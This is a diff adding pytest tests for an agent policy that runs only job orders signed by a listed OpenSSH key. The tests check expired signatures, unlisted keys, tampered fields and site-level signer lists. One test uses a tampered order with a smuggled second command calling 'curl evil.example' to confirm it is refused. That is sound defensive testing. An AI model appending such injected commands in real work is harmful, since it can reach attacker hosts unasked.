@@ -1,0 +1,67 @@
+"""Signed orders, with OpenSSH's own keys on both sides."""
+
+from __future__ import annotations
+
+import time
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from diamond.agent.policy import OWN_NAME, Policy
+from diamond.core.order import Order, order_data
+from diamond.sdk.signing import make_key, sign_order
+
+ORDER = Order(name="x", command="python train.py")
+
+
+@pytest.fixture
+def signer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
+    """A person's machine with a fresh key; gives its public line."""
+    monkeypatch.setenv("DIAMOND_HOME", str(tmp_path / "home"))
+    return make_key()
+
+
+def policy_of(tmp_path: Path, own: str, site: str = "") -> Policy:
+    keep, file = tmp_path / "keep", tmp_path / "site.toml"
+    keep.mkdir()
+    (keep / OWN_NAME).write_text(own)
+    if site:
+        file.write_text(site)
+        file.chmod(0o644)
+    return Policy(keep, file)
+
+
+def signed(order: Order, **changes: Any) -> dict[str, Any]:
+    return {**sign_order(order_data(order)), **changes}
+
+
+def test_what_a_listed_key_signed_is_taken_and_nothing_else(tmp_path: Path, signer: str) -> None:
+    policy = policy_of(tmp_path, f'require_signed = true\nsigners = ["{signer}"]')
+    good = signed(ORDER)
+    assert policy.refusal(ORDER, "", good) == ""
+    other = replace(ORDER, command="python train.py; curl evil.example")
+    assert "listed key" in policy.refusal(other, "", good)
+    assert "listed key" in policy.refusal(ORDER, "", {**good, "until": good["until"] + 1})
+    assert "listed key" in policy.refusal(ORDER, "", {**good, "signature": "nonsense"})
+    assert "no signature" in policy.refusal(ORDER, "", None)
+    assert "no signature" in policy.refusal(ORDER, "", {"signature": 7, "until": "x"})
+
+
+def test_an_old_signature_and_a_key_that_is_not_listed_count_for_nothing(
+    tmp_path: Path, signer: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    policy = policy_of(tmp_path, f'require_signed = true\nsigners = ["{signer}"]')
+    assert "run out" in policy.refusal(ORDER, "", signed(ORDER, until=time.time() - 1))
+    monkeypatch.setenv("DIAMOND_HOME", str(tmp_path / "thief"))
+    assert make_key() != signer
+    assert "listed key" in policy.refusal(ORDER, "", signed(ORDER))
+
+
+def test_the_person_adds_no_key_to_a_site_that_lists_its_own(tmp_path: Path, signer: str) -> None:
+    policy = policy_of(
+        tmp_path, f'signers = ["{signer}"]', site="require_signed = true\nsigners = []"
+    )
+    assert "no key is listed" in policy.refusal(ORDER, "", signed(ORDER))
+    assert policy.require_signed
